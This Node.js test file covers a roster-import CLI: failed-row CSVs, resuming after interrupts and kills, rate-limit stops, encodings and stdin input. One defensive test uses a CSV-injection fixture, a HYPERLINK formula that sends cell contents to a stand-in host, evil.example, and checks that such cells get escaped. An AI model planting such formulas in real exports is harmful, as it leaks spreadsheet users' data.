// import <roster.csv>: the summary, <roster>.failed.csv, progress lines, resuming after
// Ctrl-C (SIGINT) with no settled record sent twice, a finished rerun that sends nothing,
// and a retryable failure (exit 1, retried by the rerun).
import test from "node:test";
import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { mkdir, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { parseRosterCsv } from "vomo-users";
import { cli, jsonLines, posts, start, world } from "./helpers.mjs";

const roster = (n, extra = "") => "External ID,First Name,Last Name,Email,Gender\r\n"
  + Array.from({ length: n }, (_, i) => `crm-${i + 1},First${i + 1},Last${i + 1},person${i + 1}@example.org,${"MFN"[i % 3]}\r\n`).join("")
  + extra;

test("import --json: summary last, failed rows in <roster>.failed.csv (re-importable), a finished rerun sends nothing", async (t) => {
  const { sim, env, dir } = await world(t);
  const file = join(dir, "roster.csv");
  await writeFile(file, roster(20, "crm-21,Bad,Gender,bad@example.org,X\r\ncrm-22,Only,Two\r\ncrm-23,Re,Peat,PERSON1@example.org,\r\n"));
  const args = ["import", file, "--state-dir", join(dir, "state"), "--json", "--rate", "500"];
  const r = await cli(args, { env });
  assert.equal(r.code, 0, r.stderr);
  const lines = jsonLines(r.stdout);
  const summary = lines.at(-1);
  assert.equal(summary.created, 20);
  assert.equal(summary.updated, 0);
  assert.equal(summary.failed, 2, "bad gender, repeated email");
  assert.equal(summary.invalidRows, 1, "the row with three cells");
  assert.equal(summary.failedFile, join(dir, "roster.failed.csv"));
  assert.match(summary.key, /^roster\.csv-[0-9a-f]{12}$/);
  assert.equal(posts(sim).length, 20, "invalid rows and the repeat are not sent");
  assert.match(r.stderr, /^progress: 22\/22 \(100%\), created 20, updated 0, failed 2/m);
  assert.match(r.stderr, /roster\.csv line 23: 3 cells where the header has 5 \(skipped\)/);

  const failed = await readFile(join(dir, "roster.failed.csv"), "utf8");
  const { records } = parseRosterCsv(failed);
  assert.deepEqual(records.map((x) => x.externalId), ["crm-21", "crm-23"], "the failed rows read back as a roster");
  assert.match(failed, /^22,invalid_input,.*gender.*,crm-21,Bad,Gender,bad@example\.org,,,X,/m);
  assert.match(failed, /^23,invalid_row,3 cells where the header has 5,crm-22,Only,Two,/m, "the unusable row keeps what it held");
  assert.match(failed, /^24,invalid_input,.*appears earlier in this roster.*,crm-23,/m);

  const again = await cli(args, { env });
  assert.equal(again.code, 0);
  assert.deepEqual(jsonLines(again.stdout).at(-1), summary, "the same outcome, from the saved progress");
  assert.equal(posts(sim).length, 20, "a finished import rerun sends nothing");
});

test("the failed file guards cells a spreadsheet would run as formulas (CSV injection) with an apostrophe, and reads back as the roster held them", async (t) => {
  const { sim, env, dir } = await world(t);
  const state = ["--state-dir", join(dir, "state"), "--json", "--rate", "500"];
  const file = join(dir, "roster.csv");
  // Values a volunteer could have typed into a sign-up form the roster was exported from;
  // the gender X fails each row before it is sent.
  const first = '=HYPERLINK("http://evil.example/?"&A1,"fix me")';
  await writeFile(file, "External ID,First Name,Last Name,Email,Phone,Gender\r\n"
    + `crm-1,"${first.replace(/"/g, '""')}",-Berg,f1@example.org,+1 555 0100,X\r\n`
    + "crm-2,@Ann,Lee,f2@example.org,''+44 20,X\r\n"
    + "crm-3,Ok,Person,f3@example.org,,F\r\n");
  const r = await cli(["import", file, ...state], { env });
  assert.equal(r.code, 0, r.stderr);
  assert.deepEqual([jsonLines(r.stdout).at(-1).created, jsonLines(r.stdout).at(-1).failed], [1, 2]);
  const failed = await readFile(join(dir, "roster.failed.csv"), "utf8");
  const cells = failed.split("\r\n").slice(1, 3).join("\n");
  // No cell of a failed row begins with a formula character.
  assert.match(failed, /^2,invalid_input,[^\r\n]*,crm-1,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""fix me""\)",'-Berg,f1@example\.org,'\+1 555 0100,/m);
  assert.match(failed, /^3,invalid_input,[^\r\n]*,crm-2,'@Ann,Lee,f2@example\.org,''\+44 20,/m, "'+44 20 (one apostrophe read off the roster's two) is guarded too");
  for (const c of cells.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/)) assert.doesNotMatch(c.replace(/^"/, ""), /^[=+\-@]/, c);

  // Read back (as `import` reads the fixed file), every value is the roster's own.
  const back = parseRosterCsv(failed).records;
  assert.deepEqual(back.map((x) => [x.firstName, x.lastName, x.phone]), [[first, "-Berg", "+1 555 0100"], ["@Ann", "Lee", "'+44 20"]]);
  await writeFile(join(dir, "fixed.csv"), failed.replace(/,X,/g, ",F,"));
  const fixed = await cli(["import", join(dir, "fixed.csv"), ...state], { env });
  assert.equal(fixed.code, 0, fixed.stderr);
  assert.equal(jsonLines(fixed.stdout).at(-1).created, 2);
  const sent = sim.listAll().find((u) => u.email === "f1@example.org");
  assert.deepEqual([sent.first_name, sent.last_name, sent.phone], [first, "-Berg", "+1 555 0100"], "sent without the guard");
  assert.equal(sim.listAll().find((u) => u.email === "f2@example.org").phone, "'+44 20");
});

test("a row whose email changed for its External ID is not sent (it would create a second VOMO user): listed as email_changed; once VOMO has the new email, the failed file imported with --accept-email-changes updates the same user", async (t) => {
  const { sim, env, dir } = await world(t);
  const state = ["--state-dir", join(dir, "state"), "--json", "--rate", "500"];
  const file = join(dir, "roster.csv");
  await writeFile(file, roster(5));
  assert.equal((await cli(["import", file, ...state], { env })).code, 0);
  const users = sim.listAll().length;
  // The CRM changed person 2's email; the edited roster is a new import (its default key changes).
  await writeFile(file, roster(5).replace("person2@example.org", "new2@example.org"));
  const before = posts(sim).length;
  const r = await cli(["import", file, ...state], { env });
  assert.equal(r.code, 0, r.stderr);
  const summary = jsonLines(r.stdout).at(-1);
  assert.equal(summary.emailChanged, 1);
  assert.equal(summary.updated, 4);
  assert.equal(posts(sim).length - before, 4, "the changed row is not sent");
  assert.equal(sim.listAll().length, users, "no second user");
  assert.ok(!sim.listAll().some((u) => u.email === "new2@example.org"));
  assert.equal(summary.emailChangesFile, join(dir, "roster.email-changes.csv"));
  const failed = await readFile(summary.emailChangesFile, "utf8");
  assert.match(failed, /^3,email_changed,email changed from person2@example\.org to new2@example\.org for VOMO user \d+; not sent/m);
  // Without the flag, the file is refused the same way; the operator changes the email in VOMO, then accepts.
  await writeFile(join(dir, "changes.csv"), failed);
  const person2 = sim.listAll().find((u) => u.email === "person2@example.org");
  sim.updateUser(person2.id, { email: "new2@example.org" });
  const accepted = await cli(["import", join(dir, "changes.csv"), ...state, "--accept-email-changes"], { env });
  assert.equal(accepted.code, 0, accepted.stderr);
  assert.deepEqual([jsonLines(accepted.stdout).at(-1).updated, jsonLines(accepted.stdout).at(-1).emailChanged], [1, 0]);
  assert.equal(sim.listAll().length, users, "the same user, updated");
  // The mapping now holds the new email: the roster imports under any key with no email change.
  const later = await cli(["import", file, ...state, "--key", "later"], { env });
  assert.equal(jsonLines(later.stdout).at(-1).emailChanged, 0, later.stderr);
});

// An outside pass: the advice was to import the failed file with --accept-email-changes, which
// sent its other rows as they stood: a row of 6 cells read by position into 5 columns, and a
// repeat of an email, no repeat in that file, which overwrote the first row's user.
test("the email-changes file holds the held-back rows alone: imported with --accept-email-changes, it sends them and no unusable or repeated row of the roster", async (t) => {
  const { sim, env, dir } = await world(t);
  const state = ["--state-dir", join(dir, "state"), "--json", "--rate", "500"];
  const file = join(dir, "roster.csv");
  await writeFile(file, roster(4));
  assert.equal((await cli(["import", file, ...state], { env })).code, 0);
  const bad = "crm-8,Too,Many,extra@example.org,F,surplus\r\ncrm-9,Re,Peat,PERSON1@example.org,N\r\n";
  await writeFile(file, roster(4).replace("person2@example.org", "new2@example.org") + bad);
  const r = await cli(["import", file, ...state], { env });
  const summary = jsonLines(r.stdout).at(-1);
  assert.deepEqual([summary.emailChanged, summary.invalidRows, summary.failed], [1, 1, 1], r.stdout);
  const failedRows = parseRosterCsv(await readFile(summary.failedFile, "utf8")).records;
  assert.deepEqual(failedRows.map((x) => x.email).sort(), ["PERSON1@example.org", "extra@example.org"], "the unusable row reads as usable there");
  const held = parseRosterCsv(await readFile(summary.emailChangesFile, "utf8")).records;
  assert.deepEqual(held.map((x) => x.email), ["new2@example.org"]);

  const person2 = sim.listAll().find((u) => u.email === "person2@example.org");
  sim.updateUser(person2.id, { email: "new2@example.org" });
  const person1 = sim.listAll().find((u) => u.email === "person1@example.org");
  const before = posts(sim).length;
  const accepted = await cli(["import", summary.emailChangesFile, ...state, "--accept-email-changes"], { env });
  assert.equal(accepted.code, 0, accepted.stderr);
  assert.equal(posts(sim).length - before, 1, "the held-back row alone was sent");
  assert.equal(sim.getUser(person1.id).first_name, "First1", "the repeat did not overwrite the first row's user");
  assert.ok(!sim.listAll().some((u) => u.email === "extra@example.org"), "the unusable row was not sent");
  assert.equal(existsSync(join(dir, "roster.email-changes.failed.csv")), false, "nothing of it failed");
});

test("unusable rows: the first 10 noted on stderr, the rest counted there, every one in the failed file (a roster of hundreds printed each before any progress, every run)", async (t) => {
  const { env, dir } = await world(t);
  const file = join(dir, "roster.csv");
  await writeFile(file, roster(3, Array.from({ length: 14 }, (_, i) => `crm-x${i},No,Email,,M\r\n`).join("")));
  const r = await cli(["import", file, "--state-dir", join(dir, "state"), "--json", "--rate", "500"], { env });
  assert.equal(r.code, 0, r.stderr);
  const notes = r.stderr.split("\n").filter((l) => l.startsWith("note: "));
  assert.equal(notes.length, 11, r.stderr);
  assert.match(notes[0], /^note: .*roster\.csv line 5: no email \(skipped\)$/);
  assert.equal(notes[10], "note: ... and 4 more unusable rows (skipped; listed with the failed rows)");
  const summary = jsonLines(r.stdout).at(-1);
  assert.equal(summary.invalidRows, 14);
  assert.equal(parseRosterCsv(await readFile(summary.failedFile, "utf8")).errors.length, 14, "every one in the failed file");
});

test("the default key follows the file's content: an edited roster is a new import that sends the edit; the same bytes resume under the same key", async (t) => {
  const { sim, env, dir } = await world(t);
  const file = join(dir, "roster.csv");
  const args = ["import", file, "--state-dir", join(dir, "state"), "--json", "--rate", "500"];
  await writeFile(file, roster(4));
  const first = jsonLines((await cli(args, { env })).stdout).at(-1);
  const same = jsonLines((await cli(args, { env })).stdout).at(-1);
  assert.equal(same.key, first.key);
  const before = posts(sim).length;
  await writeFile(file, roster(4).replace("First3,", "Renamed3,"));
  const edited = jsonLines((await cli(args, { env })).stdout).at(-1);
  assert.notEqual(edited.key, first.key);
  assert.equal(edited.updated, 4);
  assert.equal(posts(sim).length - before, 4, "the edited roster is sent as a new import");
  assert.ok(sim.listAll().some((u) => u.first_name === "Renamed3"), "the edit reached VOMO");
});

test("import without --json: a summary line; no failed file left when nothing failed; state in ~/.local/state by default", async (t) => {
  const { env, dir } = await world(t);
  const file = join(dir, "people.csv");
  await writeFile(join(dir, "people.failed.csv"), "stale\r\n");
  await writeFile(file, roster(5));
  const r = await cli(["import", file, "--key", "people-1", "--rate", "500"], { env: { ...env, HOME: dir } });
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /^imported .*people\.csv \(key people-1\): 5 created, 0 updated, 0 failed, 0 email changes, 0 unusable rows$/m);
  assert.equal(existsSync(join(dir, "people.failed.csv")), false, "a stale failed list is removed");
  assert.ok((await readdir(join(dir, ".local", "state", "vomo-users", "imports"))).length > 0, "the progress is saved there");
  const xdg = await cli(["import", file, "--key", "people-2", "--rate", "500"], { env: { ...env, HOME: dir, XDG_STATE_HOME: join(dir, "xdg") } });
  assert.match(xdg.stdout, /0 created, 5 updated/);
  assert.ok((await readdir(join(dir, "xdg", "vomo-users", "imports"))).length > 0, "$XDG_STATE_HOME wins");
});

const SIGNAL_LABEL = { SIGINT: "Ctrl-C (SIGINT)", SIGTERM: "SIGTERM (systemd, docker stop)", SIGHUP: "SIGHUP (a closed terminal, a dropped SSH session)" };
for (const signal of ["SIGINT", "SIGTERM", "SIGHUP"]) test(`${SIGNAL_LABEL[signal]} saves progress; the rerun with the same key resumes and no settled record is sent twice`, async (t) => {
  const { sim, env, dir } = await world(t);
  const file = join(dir, "big.csv");
  const n = 60;
  await writeFile(file, roster(n));
  const args = ["import", file, "--key", "big", "--state-dir", join(dir, "state"), "--rate", "15"]; // 4 s: time to interrupt
  const run = start([...args, "--json"], { env });
  await run.waitFor("stderr", /progress: (1[5-9]|[2-5]\d)\/60 /); // a quarter done: interrupt it
  run.child.kill(signal);
  const stopped = await run.done;
  assert.equal(stopped.code, 1, stopped.stderr);
  const far = /interrupted after (\d+) of 60 usable rows \((\d+) created, 0 updated, 0 failed\): progress saved under key big in .*; run the same command again to resume/.exec(stopped.stderr);
  assert.ok(far, stopped.stderr);
  const line = jsonLines(stopped.stdout).at(-1);
  assert.deepEqual([Number(far[1]), Number(far[2])], [line.done, line.created], "how far, as the --json line says");
  assert.ok(line.done >= 15 && line.done < 60);
  assert.doesNotMatch(stopped.stderr, /aborted error|not waited for/, "one line says it: not a second with the step the abort cut");
  const sentBefore = posts(sim).length;
  assert.ok(sentBefore >= 15 && sentBefore < n, `${sentBefore} sent before the interrupt`);
  const stopLine = jsonLines(stopped.stdout).at(-1);
  assert.equal(stopLine.stopped.kind, "aborted");
  assert.ok(stopLine.done >= 15 && stopLine.done <= sentBefore && stopLine.created === stopLine.done, JSON.stringify(stopLine));

  const resumed = await cli([...args, "--json", "--rate", "500"], { env });
  assert.equal(resumed.code, 0, resumed.stderr);
  const summary = jsonLines(resumed.stdout).at(-1);
  assert.equal(summary.created + summary.updated, n, "every record settled");
  assert.equal(summary.failed, 0);
  const sentAfter = posts(sim).length - sentBefore;
  // Only the record in flight at the interrupt (not settled) may be sent again: it then comes back "updated".
  assert.ok(sentBefore + sentAfter <= n + 1, `${sentBefore} + ${sentAfter} requests for ${n} records`);
  assert.ok(summary.updated <= 1, `${summary.updated} updated`);
  assert.ok(sentAfter <= n - sentBefore + 1 && sentAfter >= n - sentBefore, "the rerun sent the rest, not the settled ones");
  const emails = new Set(sim.listAll().map((u) => u.email));
  for (let i = 1; i <= n; i++) assert.ok(emails.has(`person${i}@example.org`), `person${i}`);
});

test("a hard kill (SIGKILL) mid-import: the rerun at once (the dead run's leases are taken over, not waited out) sends at most the 10 rows since the last save again, and no one twice in VOMO", async (t) => {
  const { sim, env, dir } = await world(t);
  const file = join(dir, "big.csv");
  const n = 60;
  await writeFile(file, roster(n));
  const state = join(dir, "state");
  const args = ["import", file, "--key", "big", "--state-dir", state, "--rate", "15"];
  const run = start(args, { env });
  await run.waitFor("stderr", /progress: (2[5-9]|[34]\d)\/60 /);
  run.child.kill("SIGKILL");
  await run.done;
  const sentBefore = posts(sim).length;
  // The killed run's lease on the key is still live by its expiry (2 minutes): the FileStore
  // tells that its process is gone, and the rerun takes it over.
  const { FileStore } = await import("vomo-users/stores/file");
  const lease = JSON.parse(await new FileStore(join(state, "imports")).get("vomo-users/v1/import/big/lease"));
  assert.ok(lease.expires_at > Date.now() + 60_000, "the killed run left a live lease");
  assert.equal(JSON.parse(lease.holder).pid, run.child.pid, "naming its process");
  const resumed = await cli([...args, "--json", "--rate", "500"], { env });
  assert.equal(resumed.code, 0, resumed.stderr);
  const summary = jsonLines(resumed.stdout).at(-1);
  assert.equal(summary.created + summary.updated, n);
  // Every row is a new user: each update is the killed run's own create, sent again.
  assert.equal(summary.uncertain, summary.updated, "each update of a row the killed run created is counted uncertain");
  const sentAgain = sentBefore + (posts(sim).length - sentBefore) - n;
  assert.ok(sentAgain <= 10 + 1, `${sentAgain} rows sent twice (progress is saved every 10 rows)`);
  assert.equal(new Set(sim.listAll().map((u) => u.email)).size, sim.listAll().length, "no one twice in VOMO");
  assert.equal(sim.listAll().filter((u) => /^person\d+@example\.org$/.test(u.email)).length, n);
});

test("plain progress (stderr not a terminal): a line each 5 % at most once a second (or 5 s) and one at the end, not one per row; a rerun with every row settled prints the last line only", async (t) => {
  const { env, dir } = await world(t);
  const file = join(dir, "roster.csv");
  await writeFile(file, roster(100));
  const args = ["import", file, "--state-dir", join(dir, "state")];
  const started = Date.now();
  const r = await cli([...args, "--rate", "40"], { env }); // 2.5 s
  const seconds = (Date.now() - started) / 1000;
  assert.equal(r.code, 0, r.stderr);
  const percents = [...r.stderr.matchAll(/^progress: (\d+)\/100 \((\d+)%\)/gm)].map((m) => Number(m[2]));
  assert.ok(percents.length >= 2 && percents.length <= Math.floor(seconds) + 1, `${percents.length} progress lines in ${seconds} s: ${percents}`);
  assert.equal(percents.at(-1), 100, "a line at the end");
  percents.slice(1).forEach((p, i) => assert.ok(p >= percents[i] + 5 || p === 100, `${percents[i]} then ${p}`));
  const rerun = await cli([...args, "--rate", "40"], { env });
  assert.equal(rerun.code, 0, rerun.stderr);
  assert.deepEqual(rerun.stderr.match(/^progress: .*$/gm), ["progress: 100/100 (100%), created 100, updated 0, failed 0, done"]);
});

test("each failure is written on its own row, even where two rows share an External ID or an email", async (t) => {
  const { sim, env, dir } = await world(t);
  const file = join(dir, "shared.csv");
  await writeFile(file, "External ID,First Name,Last Name,Email,Gender\r\n" +
    "E1,Bad,Row,bad.r11@example.org,X\r\n" +       // line 2: bad gender
    "E1,Good,Row,good.r11@example.org,F\r\n" +     // line 3: a repeat of external id E1
    "E2,Same,One,same@example.org,X\r\n" +         // line 4: bad gender
    "E3,Same,Two,SAME@example.org,F\r\n" +         // line 5: a repeated email
    "E4,Fine,Row,fine.r11@example.org,F\r\n");     // line 6: created
  const r = await cli(["import", file, "--state-dir", join(dir, "state"), "--json", "--rate", "500"], { env });
  assert.equal(r.code, 0, r.stderr);
  const failed = await readFile(join(dir, "shared.failed.csv"), "utf8");
  assert.match(failed, /^2,invalid_input,.*gender.*,E1,Bad,Row,bad\.r11@example\.org,/m);
  assert.match(failed, /^3,invalid_input,"external id E1 appears earlier in this roster.*,E1,Good,Row,good\.r11@example\.org,/m);
  assert.match(failed, /^4,invalid_input,.*gender.*,E2,Same,One,same@example\.org,/m);
  assert.match(failed, /^5,invalid_input,.*appears earlier.*,E3,Same,Two,SAME@example\.org,/m);
  assert.doesNotMatch(failed, /^6,/m, "the created row is not in the failed file");
  assert.equal(posts(sim).length, 1, "only the good row is sent");
  assert.ok(sim.listAll().some((u) => u.email === "fine.r11@example.org"));
});

test("an import against a base URL without /v1 (every POST answers 404) stops at the first row with the note, instead of settling every row as failed", async (t) => {
  const { sim, env, dir } = await world(t);
  const file = join(dir, "roster.csv");
  await writeFile(file, roster(5));
  const wrong = sim.url.replace(/\/v1$/, "");
  const r = await cli(["import", file, "--state-dir", join(dir, "state"), "--json", "--rate", "500", "--base-url", wrong], { env });
  assert.equal(r.code, 1, r.stderr);
  assert.match(r.stderr, /not_found error \(HTTP 404\)/);
  assert.match(r.stderr, /note: --base-url .* does not end in \/v1/);
  assert.equal(posts(sim).length, 0, "the simulator's /v1 got nothing");
});

test("a failed file that cannot be written is a warning with the rows on stderr, and the summary still comes", async (t) => {
  const { sim, env, dir } = await world(t);
  const file = join(dir, "roster.csv");
  await writeFile(file, roster(3, "crm-4,Bad,Gender,bad@example.org,X\r\n"));
  await mkdir(join(dir, "roster.failed.csv")); // where the file would go: a directory (EISDIR), as a read-only share or a pipe would refuse it
  const r = await cli(["import", file, "--state-dir", join(dir, "state"), "--json", "--rate", "500"], { env });
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stderr, /warning: cannot write .*roster\.failed\.csv \(EISDIR\); the failed rows follow here:/);
  assert.match(r.stderr, /^5,invalid_input,.*gender.*,crm-4,Bad,Gender,bad@example\.org,/m);
  const summary = jsonLines(r.stdout).at(-1);
  assert.deepEqual([summary.created, summary.failed, summary.failedFile], [3, 1, null]);
  assert.equal(posts(sim).length, 3);
});

test("a roster read from a pipe (/dev/stdin): the failed rows go to stderr, no file is written beside it (in /dev), and the summary still comes", async (t) => {
  const { spawn } = await import("node:child_process");
  const { BIN, baseEnv } = await import("./helpers.mjs");
  const { sim, env, dir } = await world(t);
  const beside = "/dev/stdin.failed.csv";
  assert.ok(!existsSync(beside));
  const file = join(dir, "roster.csv");
  await writeFile(file, roster(2, "crm-4,Bad,Gender,bad@example.org,X\r\n"));
  // A shell's pipe, as an operator types it (Node's own stdio "pipe" is a socket, which /dev/stdin cannot open).
  const child = spawn("sh", ["-c", 'cat "$0" | "$1" import /dev/stdin --key piped --state-dir "$2" --json --rate 500', file, BIN, join(dir, "state")],
    { env: baseEnv(env), stdio: ["ignore", "pipe", "pipe"] });
  let stdout = "", stderr = "";
  child.stdout.setEncoding("utf8").on("data", (d) => { stdout += d; });
  child.stderr.setEncoding("utf8").on("data", (d) => { stderr += d; });
  const code = await new Promise((ok) => child.on("close", ok));
  t.after(() => rm(beside, { force: true }));
  assert.equal(code, 0, stderr);
  assert.ok(!existsSync(beside), "nothing written into /dev");
  assert.match(stderr, /warning: cannot write \/dev\/stdin\.failed\.csv \(the roster was read from a pipe or a device, not a file\); the failed rows follow here:/);
  assert.match(stderr, /^4,invalid_input,.*gender.*,crm-4,Bad,Gender,bad@example\.org,/m);
  const summary = jsonLines(stdout).at(-1);
  assert.deepEqual([summary.created, summary.failed, summary.failedFile], [2, 1, null]);
  assert.equal(posts(sim).length, 2);
});

test("a row that failed with a retryable error: exit 1 naming the kind; the rerun retries only it", async (t) => {
  const { sim, env, dir } = await world(t);
  const file = join(dir, "flaky.csv");
  await writeFile(file, roster(3));
  sim.injectFault({ method: "POST", path: "/v1/users", type: "status", status: 503, times: 5 }); // outlasts the client's 4 retries
  const args = ["import", file, "--state-dir", join(dir, "state"), "--json", "--rate", "500"];
  const r = await cli(args, { env });
  assert.equal(r.code, 1);
  assert.match(r.stderr, /1 row\(s\) failed with a retryable error \(server\); run the same command again to retry them/);
  const summary = jsonLines(r.stdout).at(-1);
  assert.deepEqual([summary.created, summary.failed, summary.retryable], [2, 1, 1]);
  assert.match(await readFile(join(dir, "flaky.failed.csv"), "utf8"), /,server,.*,crm-1,/);
  const before = posts(sim).length;
  const again = await cli(args, { env });
  assert.equal(again.code, 0, again.stderr);
  assert.equal(posts(sim).length - before, 1, "only the unsettled row is sent again");
  assert.deepEqual(jsonLines(again.stdout).at(-1).created, 3);
  assert.equal(existsSync(join(dir, "flaky.failed.csv")), false);
});

test("an API that asks for a pause longer than the client waits (429, Retry-After 600) stops the import at the first row, not one 429 per row; the note says how to resume, and that the failed file is an earlier run's", async (t) => {
  const { sim, env, dir } = await world(t);
  const file = join(dir, "roster.csv");
  await writeFile(file, roster(5, "crm-6,Bad,Gender,bad6@example.org,X\r\n"));
  await writeFile(join(dir, "roster.failed.csv"), "Line,Error\r\n9,server\r\n"); // left by an earlier run
  sim.injectFault({ method: "POST", path: "/v1/users", type: "status", status: 429, headers: { "Retry-After": "600" }, times: Infinity });
  const args = ["import", file, "--key", "paused", "--state-dir", join(dir, "state"), "--json", "--rate", "500"];
  const before = Date.now();
  const r = await cli(args, { env });
  assert.equal(r.code, 1, r.stderr);
  assert.match(r.stderr, /^vomo-users: rate_limited error \(HTTP 429\)/m);
  // When the API takes requests again: the 429's time plus its 600 s.
  const until = Date.parse(/Retry-After 600 s \(until (\S+)\), beyond maxRetryAfterMs 120000: not waited for; try again then/.exec(r.stderr)?.[1]);
  assert.ok(until >= before + 600_000 - 1000 && until <= Date.now() + 600_000 + 1000, r.stderr);
  assert.match(r.stderr, /stopped before any row was done: progress saved under key paused in .*; run the same command again to resume/);
  assert.match(r.stderr, /note: .*roster\.failed\.csv is from an earlier run, not this one; the run that finishes rewrites it/);
  assert.equal(posts(sim).length, 1);
  // --json: a last line for the stop too, why and how far this run got.
  const [stop] = jsonLines(r.stdout);
  assert.deepEqual({ ...stop, stopped: { ...stop.stopped, message: undefined, retryAfterMs: undefined } },
    { stopped: { kind: "rate_limited", status: 429, message: undefined, retryAfterMs: undefined }, done: 0, rows: 6, created: 0, updated: 0, failed: 0, emailChanged: 0, key: "paused" });
  assert.ok(stop.stopped.retryAfterMs > 590_000 && stop.stopped.retryAfterMs <= 600_000, stop.stopped.retryAfterMs);
  assert.match(stop.stopped.message, /Retry-After 600 s \(until \S+\), beyond maxRetryAfterMs/);
  sim.clearFaults();
  const again = await cli(args, { env });
  assert.equal(again.code, 0, again.stderr);
  assert.equal(jsonLines(again.stdout).at(-1).created, 5);
  assert.doesNotMatch(again.stderr, /from an earlier run/);
  assert.match(await readFile(join(dir, "roster.failed.csv"), "utf8"), /^7,invalid_input,.*crm-6/m, "rewritten by the run that finished");
});

test("import --forget removes the roster's saved progress without a token or a request: the next import sends every row again", async (t) => {
  const { sim, env, dir } = await world(t);
  const file = join(dir, "roster.csv");
  await writeFile(file, roster(6));
  const state = ["--state-dir", join(dir, "state")];
  assert.equal((await cli(["import", file, ...state, "--json", "--rate", "500"], { env })).code, 0);
  const again = await cli(["import", file, ...state, "--json", "--rate", "500"], { env });
  assert.equal(posts(sim).length, 6, "finished: the rerun sent nothing");
  assert.equal(jsonLines(again.stdout).at(-1).created, 6);

  const forget = await cli(["import", file, ...state, "--forget", "--json"], { env: { VOMO_BASE_URL: sim.url } }); // no token
  assert.equal(forget.code, 0, forget.stderr);
  assert.match(forget.stderr, /forgot the progress of key roster\.csv-[0-9a-f]{12} in .*state: the next import of it sends every row/);
  assert.deepEqual(jsonLines(forget.stdout).at(-1), { key: jsonLines(again.stdout).at(-1).key, forgotten: true });
  assert.equal(posts(sim).length, 6, "nothing sent by --forget");
  const none = await cli(["import", file, ...state, "--forget"], { env });
  assert.match(none.stderr, /no progress under key roster\.csv-/);
  const misuse = await cli(["import", file, ...state, "--forget", "--accept-email-changes"], { env });
  assert.equal(misuse.code, 2);
  assert.match(misuse.stderr, /--forget sends nothing, so --accept-email-changes has no use with it/);

  const resent = await cli(["import", file, ...state, "--json", "--rate", "500"], { env });
  assert.equal(resent.code, 0, resent.stderr);
  assert.equal(jsonLines(resent.stdout).at(-1).updated, 6);
  assert.equal(posts(sim).length, 12, "every row sent again");
});

test("a roster without an email column is bad input (exit 2), its message not buried under the usage, nothing sent", async (t) => {
  const { sim, env, dir } = await world(t);
  const file = join(dir, "names.csv");
  await writeFile(file, "First Name,Last Name\nAna,Lima\n");
  const r = await cli(["import", file, "--state-dir", join(dir, "state"), "--rate", "500"], { env });
  assert.equal(r.code, 2);
  assert.match(r.stderr, /^vomo-users: invalid input: .*no column for email.*\n\(vomo-users import --help lists the options\)\n$/);
  assert.equal(posts(sim).length, 0);
});

test("a roster saved as Windows-1252 is bad usage naming the line, nothing sent; a semicolon-separated one imports", async (t) => {
  const { sim, env, dir } = await world(t);
  const file = join(dir, "excel.csv");
  // What Excel's plain "CSV" writes on Windows: é is the single byte 0xE9.
  await writeFile(file, Buffer.from("First Name;Last Name;Email\r\nAna;Lima;ana@example.org\r\nJosé;Ruiz;jose@example.org\r\n", "latin1"));
  const r = await cli(["import", file, "--state-dir", join(dir, "state"), "--rate", "500"], { env });
  assert.equal(r.code, 2, r.stderr);
  assert.match(r.stderr, /^vomo-users: invalid input: roster CSV: line 3 is not UTF-8 text \(byte 0xE9 after "Jos"\).*"CSV UTF-8"/m);
  assert.equal(posts(sim).length, 0, "no row is sent, not even the good first one");

  await writeFile(file, "\uFEFFFirst Name;Last Name;Email\r\nAna;Lima;ana@example.org\r\nJosé;Ruiz;jose@example.org\r\n");
  const ok = await cli(["import", file, "--state-dir", join(dir, "state"), "--rate", "500", "--json"], { env });
  assert.equal(ok.code, 0, ok.stderr);
  assert.equal(jsonLines(ok.stdout).at(-1).created, 2);
  assert.equal(posts(sim).length, 2);
  const jose = await cli(["find", "jose@example.org", "--json"], { env });
  assert.equal(JSON.parse(jose.stdout).firstName, "José", "the name as written, not Jos\uFFFD");
});

test("import - reads the roster from stdin: key stdin-<hash of the content>, the failed rows on stderr (there is no file to put them beside), a rerun sends nothing", async (t) => {
  const { sim, env, dir } = await world(t);
  const { spawn } = await import("node:child_process");
  const { baseEnv, BIN } = await import("./helpers.mjs");
  const text = `${roster(3)}Bad,Row,,,\r\n`;
  const run = async () => {
    const child = spawn(BIN, ["import", "-", "--state-dir", join(dir, "state"), "--json", "--rate", "500"], { env: baseEnv(env), stdio: ["pipe", "pipe", "pipe"] });
    let stdout = "", stderr = "";
    child.stdout.setEncoding("utf8").on("data", (d) => { stdout += d; });
    child.stderr.setEncoding("utf8").on("data", (d) => { stderr += d; });
    child.stdin.end(text);
    const code = await new Promise((ok) => child.on("close", ok));
    return { code, stdout, stderr };
  };
  const first = await run();
  assert.equal(first.code, 0, first.stderr);
  const summary = jsonLines(first.stdout).at(-1);
  const { createHash } = await import("node:crypto");
  assert.equal(summary.key, `stdin-${createHash("sha256").update(text).digest("hex").slice(0, 12)}`);
  assert.deepEqual([summary.created, summary.invalidRows, summary.failedFile], [3, 1, null]);
  assert.match(first.stderr, /the roster was read from a pipe or a device, not a file\); the failed rows follow here/);
  const sent = posts(sim).length;
  const again = await run();
  assert.equal(again.code, 0, again.stderr);
  assert.equal(posts(sim).length, sent, "the same content resumes under its key: nothing sent again");
});
